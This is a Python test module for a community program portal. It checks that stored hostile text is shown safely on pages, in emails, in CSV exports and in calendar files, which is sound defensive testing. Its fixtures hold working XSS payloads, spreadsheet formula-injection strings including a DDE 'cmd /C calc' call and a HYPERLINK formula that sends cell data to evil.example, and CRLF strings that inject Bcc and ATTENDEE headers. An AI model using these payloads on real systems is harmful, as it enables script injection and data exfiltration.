"""Hostile text that is already stored comes out harmless everywhere it is shown.

Names, meeting titles and places, document titles and bodies, payment notes,
references and void reasons, and translation requests hold script tags,
attribute breakers, `javascript:` links and template syntax. Every page shows
them as text, emails stay plain text with one-line subjects, spreadsheet
cells never start like a formula, and calendar files keep one event per
meeting with the title as one value.
"""

from __future__ import annotations

import csv
import email
import io
import re
from dataclasses import dataclass
from datetime import time, timedelta
from html.parser import HTMLParser

import pytest
from icalendar import Calendar
from sqlalchemy import select

from portal.auth.models import Role, User
from portal.csv_export import csv_cell
from portal.db import db, utcnow
from portal.documents.models import DocumentKind
from portal.documents.services import (
    VersionContent,
    create_document,
    publish_document,
    request_translation,
    set_version,
)
from portal.meetings.models import Meeting, MeetingFormat, Response
from portal.meetings.services import (
    MeetingDetails,
    Needs,
    create_meeting,
    local_instant,
    rsvp_for_meeting,
    update_meeting,
)
from portal.outbox.models import OutboxMessage
from portal.outbox.services import _build_email
from portal.programs.models import Enrollment, Installment, Program
from portal.stipends.models import PaymentMethod
from portal.stipends.services import (
    PaymentDetails,
    new_submission_key,
    record_payment,
    void_payment,
)
from tests.conftest import make_person, sign_in

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE_BREAK = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}"


def hostile(label: str) -> str:
    """A label followed by every trick; the label tells which field a page shows."""
    return f"{label} {SCRIPT} {ATTRIBUTE_BREAK} {TEMPLATE}"


PROGRAM = hostile("Program")
INSTALLMENT = hostile("Installment")
MEMBER = hostile("Mo")
FACILITATOR = hostile("Fern")
FINANCE = hostile("Finn")
ADMIN = hostile("Ada")
TITLE = hostile("Title")
DESCRIPTION = hostile("Description") + " javascript:alert(1)"
VENUE = hostile("Venue")
ROOM = hostile("Room")
ACCESS_NOTES = hostile("Access")
JOIN_LINK = 'https://video.example.org/x"><script>alert(1)</script>'
NEEDS = hostile("Needs")
DOCUMENT = hostile("Doc")
VERSION = hostile("Version")
REFERENCE = hostile("Ref")
NOTE = hostile("Note")
VOID_REASON = hostile("Void")
MARKDOWN = (
    "Read [this](javascript:alert(1)), [that]( JaVaScRiPt:alert(1)) and "
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).\n\n"
    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n"
    '<a href="javascript:alert(1)">raw</a> {{7*7}} '
    "![pic](javascript:alert(1)) [ok](https://example.org/ok)\n"
)

# Names and notes that a spreadsheet would run as formulas if a cell began with them.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Line breaks in a title or place must not make new calendar lines or email headers.
CRLF_TITLE = ("Evening session\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\n"
              "Bcc: evil@example.org")
CRLF_VENUE = "City Hall\r\nATTENDEE:mailto:evil@example.org"
# A member of staff whose name is a formula, so the audit log names one as its actor.
FORMULA_STAFF = "=cmd|' /C calc'!A0"


@dataclass
class Hostile:
    meeting_id: int
    crlf_meeting_id: int
    document_id: int
    member_id: int
    enrollment_id: int
    payment_id: int
    voided_payment_id: int
    year: int
    people: dict[str, User]


def _details(program: Program, days: int, venue: str, room: str | None) -> MeetingDetails:
    day = program.local_today(utcnow()) + timedelta(days=days)
    return MeetingDetails(
        starts_at=local_instant(day, time(18), program.timezone),
        ends_at=local_instant(day, time(20), program.timezone),
        format=MeetingFormat.HYBRID, venue=venue, room=room,
        accessibility_notes=ACCESS_NOTES, join_link=JOIN_LINK, capacity=10)


def build_hostile_world() -> Hostile:
    today = utcnow().date()
    program = Program(
        name=PROGRAM, timezone="America/New_York", season_start=today - timedelta(days=30),
        season_end=today + timedelta(days=150), stipend_cents=120_000, currency="USD",
        installments=[Installment(label=INSTALLMENT, due_on=today - timedelta(days=1),
                                  amount_cents=120_000)])
    db.session.add(program)
    db.session.commit()
    people = {
        "admin": make_person(program, Role.ADMIN, name=ADMIN),
        "facilitator": make_person(program, Role.FACILITATOR, name=FACILITATOR),
        "finance": make_person(program, Role.FINANCE, name=FINANCE),
        "member": make_person(program, Role.MEMBER, name=MEMBER),
    }
    formula_people = [make_person(program, Role.MEMBER, name=name) for name in FORMULAS]
    formula_staff = make_person(program, Role.FACILITATOR, name=FORMULA_STAFF)
    member, finance, facilitator = people["member"], people["finance"], people["facilitator"]
    member.access_needs = NEEDS
    now = utcnow()

    meeting = create_meeting(facilitator, program, _details(program, 7, VENUE, ROOM),
                             language="en", title=TITLE, description=DESCRIPTION)
    rsvp_for_meeting(member, meeting, Response.IN_PERSON, Needs.from_profile(member), now)
    for person, needs in zip(formula_people, FORMULAS, strict=True):
        rsvp_for_meeting(person, meeting, Response.VIRTUAL, Needs(access_needs=needs), now)
    crlf = create_meeting(formula_staff, program, _details(program, 14, "Library", None),
                          language="en", title="Second", description=None)
    rsvp_for_meeting(member, crlf, Response.VIRTUAL, Needs(), now)
    db.session.flush()
    # A change of title and place: calendars see it and the member gets an email.
    update_meeting(facilitator, crlf, _details(program, 14, CRLF_VENUE, None),
                   title=CRLF_TITLE, description=CRLF_TITLE)

    document = create_document(facilitator, program, kind=DocumentKind.AGENDA, meeting=meeting,
                               language="en", content=VersionContent(DOCUMENT, MARKDOWN),
                               now=now)
    publish_document(facilitator, document, now)
    request_translation(member, document, "fr", now)
    for person in formula_people:
        request_translation(person, document, "es", now)
    set_version(facilitator, document, "es", VersionContent(VERSION, MARKDOWN), now)

    enrollment = db.session.scalars(select(Enrollment).where(
        Enrollment.user_id == member.id)).one()
    paid_on = program.local_today(now)

    def pay(enrollment, cents, reference, note):
        return record_payment(finance, enrollment,
                              PaymentDetails(cents, paid_on, PaymentMethod.CHECK, reference, note),
                              submission_key=new_submission_key(), today=paid_on)[0]

    voided = pay(enrollment, 10_000, REFERENCE, NOTE)
    void_payment(finance, voided, VOID_REASON, now)
    payment = pay(enrollment, 20_000, REFERENCE, NOTE)
    for person, text in zip(formula_people, FORMULAS, strict=True):
        their = db.session.scalars(select(Enrollment).where(
            Enrollment.user_id == person.id)).one()
        void_payment(finance, pay(their, 5_000, text[:80], text), text, now)
        pay(their, 5_000, text[:80], text)
    db.session.commit()
    return Hostile(meeting.id, crlf.id, document.id, member.id, enrollment.id, payment.id,
                   voided.id, paid_on.year, people)


@pytest.fixture
def world(ctx):
    return build_hostile_world()


@pytest.fixture
def signed_in(app, world):
    clients = {}

    def client_for(role: str):
        if role not in clients:
            clients[role] = app.test_client()
            sign_in(clients[role], world.people[role])
        return clients[role]

    return client_for


# --- Pages -------------------------------------------------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background"}


class PageReader(HTMLParser):
    """What a browser would make of a page: its elements, attributes and text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.texts: list[str] = []
        self.values: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "script":
            self._in_script = True
            if not names.get("src", "").startswith("/static/"):
                self.problems.append(f"a script that is not the portal's own: {attrs}")
        if tag in {"img", "iframe", "object", "embed", "base", "frame"}:
            self.problems.append(f"an element the portal never writes: <{tag} {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"an event handler: <{tag} {name}={value!r}>")
            if value is None:
                continue
            self.values.append(value)
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES and squeezed.startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"a dangerous link: <{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")
        self.texts.append(data)


def read_page(html: str) -> PageReader:
    reader = PageReader()
    reader.feed(html)
    reader.close()
    return reader


def shown(reader: PageReader, value: str) -> bool:
    """The value is on the page as text, or as the value of a form field."""
    text = "".join(reader.texts)
    squeezed = " ".join(text.split())
    return value in text or " ".join(value.split()) in squeezed or value in reader.values


# Each page and the hostile values it must show, as text, for the role that reads it.
PAGES = [
    ("member", "/", [PROGRAM, MEMBER]),
    ("member", "/calendar", [TITLE]),
    ("member", "/meetings/{meeting_id}", [TITLE, DESCRIPTION, VENUE, ROOM, ACCESS_NOTES,
                                          DOCUMENT, NEEDS]),
    ("member", "/materials", [DOCUMENT, TITLE]),
    ("member", "/materials/{document_id}", [DOCUMENT]),
    ("member", "/materials/{document_id}?language=es", [VERSION]),
    ("member", "/stipend", []),
    ("member", "/profile/", [MEMBER, NEEDS]),
    ("member", "/attendance", []),
    ("facilitator", "/meetings/{meeting_id}/roster", [TITLE, MEMBER, NEEDS]),
    ("facilitator", "/meetings/{meeting_id}/edit", [TITLE, DESCRIPTION, VENUE, ROOM,
                                                    ACCESS_NOTES]),
    ("facilitator", "/meetings/{meeting_id}/translations?language=es", [TITLE]),
    ("facilitator", "/materials/{document_id}/edit", [DOCUMENT, MARKDOWN]),
    ("facilitator", "/materials/{document_id}/versions?language=es", [VERSION, MARKDOWN]),
    ("facilitator", "/materials/translation-requests", [DOCUMENT]),
    ("facilitator", "/materials/new", [TITLE]),
    ("finance", "/finance", [MEMBER]),
    ("finance", "/finance/members/{enrollment_id}", [MEMBER, REFERENCE, NOTE, VOID_REASON,
                                                     FINANCE]),
    ("finance", "/finance/members/{enrollment_id}/payments/new", [MEMBER]),
    ("finance", "/finance/payments/{payment_id}/void", [MEMBER, REFERENCE]),
    ("finance", "/finance/tax-year", [MEMBER]),
    ("admin", "/admin/people", [MEMBER, FINANCE]),
    ("admin", "/admin/people?q=Mo", [MEMBER]),
    ("admin", "/admin/people?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", [ATTRIBUTE_BREAK]),
    ("member", "/language?next=javascript:alert(1)", []),
    ("member", "/language?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", []),
    ("admin", "/admin/people/{member_id}", [MEMBER]),
    ("admin", "/admin/program", [PROGRAM, INSTALLMENT]),
    ("admin", "/admin/audit", [FINANCE, FACILITATOR]),
    ("admin", "/admin/outbox", []),
]


@pytest.mark.parametrize(("role", "path", "values"), PAGES,
                         ids=[f"{role}:{path}" for role, path, _ in PAGES])
def test_pages_show_hostile_text_as_text(world, signed_in, role, path, values):
    response = signed_in(role).get(path.format(**world.__dict__))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    reader = read_page(html)
    assert reader.problems == []
    assert SCRIPT not in html and "<img" not in html
    for value in values:
        assert shown(reader, value), f"{value[:20]!r} is not shown on {path}"
    # Stored template syntax is shown as it was written, never worked out.
    if values:
        assert TEMPLATE in "".join(reader.texts) + "".join(reader.values)


def test_markdown_keeps_only_safe_links(world, signed_in):
    html = signed_in("member").get(f"/materials/{world.document_id}").get_data(as_text=True)
    reader = read_page(html)
    assert reader.problems == []
    assert '<a href="https://example.org/ok"' in html
    links = [value for value in reader.values if "alert" in value or "base64" in value]
    assert links == []
    # Raw HTML in the Markdown is shown as text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_the_join_link_stays_inside_its_attribute(world, signed_in):
    html = signed_in("member").get(f"/meetings/{world.meeting_id}").get_data(as_text=True)
    assert 'href="https://video.example.org/x&#34;&gt;&lt;script&gt;' in html or (
        'href="https://video.example.org/x&quot;&gt;&lt;script&gt;' in html)


def test_messages_after_an_action_show_names_as_text(world, signed_in):
    facilitator = signed_in("facilitator")
    response = facilitator.post(f"/meetings/{world.meeting_id}/answers",
                                data={"user_id": str(world.member_id), "response": "virtual"},
                                follow_redirects=True)
    reader = read_page(response.get_data(as_text=True))
    assert reader.problems == []
    assert f"The answer for {MEMBER} is saved." in "".join(reader.texts)
    admin = signed_in("admin")
    response = admin.post(f"/admin/people/{world.member_id}/deactivate", follow_redirects=True)
    reader = read_page(response.get_data(as_text=True))
    assert reader.problems == []
    assert f"{MEMBER} is deactivated" in "".join(reader.texts)


@pytest.mark.parametrize("link", ["javascript:alert(1)", " javascript:alert(1)",
                                  "data:text/html,<script>alert(1)</script>",
                                  "JAVASCRIPT:alert(1)", "//evil.example/x"])
def test_a_join_link_that_is_not_a_web_address_is_refused(world, signed_in, link):
    form = {"language": "en", "title": "Walk", "day": "2031-01-15", "starts": "18:00",
            "ends": "20:00", "format": "virtual", "join_link": link, "capacity": ""}
    response = signed_in("facilitator").post("/meetings/new", data=form)
    assert response.status_code == 200
    assert "<title>Error:" in response.get_data(as_text=True)
    assert db.session.scalars(select(Meeting).where(Meeting.join_link == link)).all() == []


# --- Emails ------------------------------------------------------------------------------

def test_emails_stay_plain_text_with_one_line_headers(world):
    messages = db.session.scalars(select(OutboxMessage).order_by(OutboxMessage.id)).all()
    to_member = [m for m in messages if m.recipient_id == world.member_id]
    subjects = {m.subject for m in to_member}
    # New material, translation ready, meeting changed and payment emails were written,
    # with the stored text as it was typed: plain text needs no HTML escaping.
    assert f"New for the group: {DOCUMENT}" in subjects
    assert ("A meeting has changed: " + " ".join(CRLF_TITLE.split())) in subjects
    assert any(m.body.startswith(f"Hello {MEMBER},") for m in to_member)
    assert any("City Hall" in m.body for m in to_member)
    for message in messages:
        assert "\r" not in message.subject and "\n" not in message.subject
        assert "&lt;" not in message.body + message.subject
        assert "&#34;" not in message.body and "&quot;" not in message.body
        parsed = email.message_from_bytes(_build_email(message).as_bytes())
        assert parsed["Bcc"] is None and parsed["Cc"] is None
        assert len(parsed.get_all("Subject")) == 1
        # Plain text only; an answer's confirmation also carries the meeting's .ics.
        assert [part.get_content_type() for part in parsed.walk()] in (
            ["text/plain"], ["multipart/mixed", "text/plain", "text/calendar"])
    # Template syntax in stored text stays as written, never worked out.
    assert all(TEMPLATE in m.subject for m in to_member if m.subject.startswith("New for"))


# --- Spreadsheets ------------------------------------------------------------------------

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def assert_no_formulas(rows: list[list[str]], expected: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    starting_like_formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTERS)]
    assert starting_like_formulas == []
    for text in expected:
        assert any(only_marks_added(cell, text) for cell in cells), \
            f"{text!r} is missing or changed"


def only_marks_added(cell: str, text: str) -> bool:
    """The cell is the text with apostrophes put in front of the pieces that would
    start a formula (see csv_cell), and nothing else changed."""
    return cell.startswith("'") and cell.replace("'", "") == text.replace("'", "")


def test_ledger_csv_cells_never_start_like_formulas(world, signed_in):
    rows = read_csv(signed_in("finance").get("/finance/ledger.csv"))
    assert_no_formulas(rows, FORMULAS)
    mine = [row for row in rows if row[1] == MEMBER]
    assert len(mine) == 2  # one payment voided, one counted
    assert {(row[6], row[7]) for row in mine} == {(REFERENCE, NOTE)}
    assert [row[13] for row in mine if row[13]] == [VOID_REASON]


def test_tax_year_csv_cells_never_start_like_formulas(world, signed_in):
    rows = read_csv(signed_in("finance").get(f"/finance/tax-year/{world.year}.csv"))
    assert_no_formulas(rows, FORMULAS)
    assert any(row[0] == MEMBER for row in rows)


def test_roster_csv_cells_never_start_like_formulas(world, signed_in):
    rows = read_csv(signed_in("facilitator").get(f"/meetings/{world.meeting_id}/roster.csv"))
    # Each formula is both a person's name and their access needs.
    assert_no_formulas(rows, FORMULAS)
    assert [row[7] for row in rows if row[0] == MEMBER] == [NEEDS]


def test_audit_csv_cells_never_start_like_formulas(app, world, signed_in):
    if "admin.audit_log_csv" not in app.view_functions:
        pytest.skip("the audit log has no download")
    rows = read_csv(signed_in("admin").get("/admin/audit.csv"))
    assert_no_formulas(rows, [FORMULA_STAFF])
    assert any(row[1] == FINANCE for row in rows)
    # A void reason is a money detail: an admin without finance sees that it happened.
    assert any(row[2] == "Payment voided" for row in rows)
    assert not any("Void <script>alert(1)</script>" in cell for row in rows for cell in row)


@pytest.mark.parametrize("text", [*FORMULAS, "=1+1", "+1", "-1", "@A1", "\t-1", "\r+1"])
def test_a_cell_that_starts_like_a_formula_is_kept_as_text(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTERS)
    assert only_marks_added(cell, text)


@pytest.mark.parametrize("value", [None, "", "Rosa Delgado", "Check 1042", 600, "600.00"])
def test_ordinary_cells_are_left_alone(value):
    assert csv_cell(value) == ("" if value is None else str(value))


# --- Calendars ---------------------------------------------------------------------------

def _events(body: bytes) -> list:
    calendar = Calendar.from_ical(body)
    return [component for component in calendar.walk() if component.name == "VEVENT"]


def _one_line(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_a_meeting_file_has_one_event_whatever_the_title_holds(world, signed_in):
    response = signed_in("member").get(f"/meetings/{world.crlf_meeting_id}/meeting.ics")
    assert response.status_code == 200
    events = _events(response.data)
    assert len(events) == 1
    event = events[0]
    assert _one_line(str(event["summary"])) == _one_line(CRLF_TITLE)
    assert _one_line(str(event["location"])) == _one_line(CRLF_VENUE)
    assert "ATTENDEE" not in event and "ATTENDEE" not in response.get_data(as_text=True).split(
        "LOCATION:", 1)[0]
    lines = response.get_data(as_text=True).split("\r\n")
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 1
    assert not any(line.startswith(("SUMMARY:Injected", "ATTENDEE", "Bcc")) for line in lines)


def test_a_feed_has_one_event_per_meeting(world, signed_in):
    client = signed_in("member")
    page = client.post("/profile/calendar-feed").get_data(as_text=True)
    link = re.search(r"https?://[^/]+(/calendar/feed/[^\"<\s]+\.ics)", page).group(1)
    response = client.get(link)
    events = _events(response.data)
    assert len(events) == 2
    titles = sorted(_one_line(str(event["summary"])) for event in events)
    assert titles == sorted([_one_line(CRLF_TITLE), TITLE])
    lines = response.get_data(as_text=True).split("\r\n")
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 2
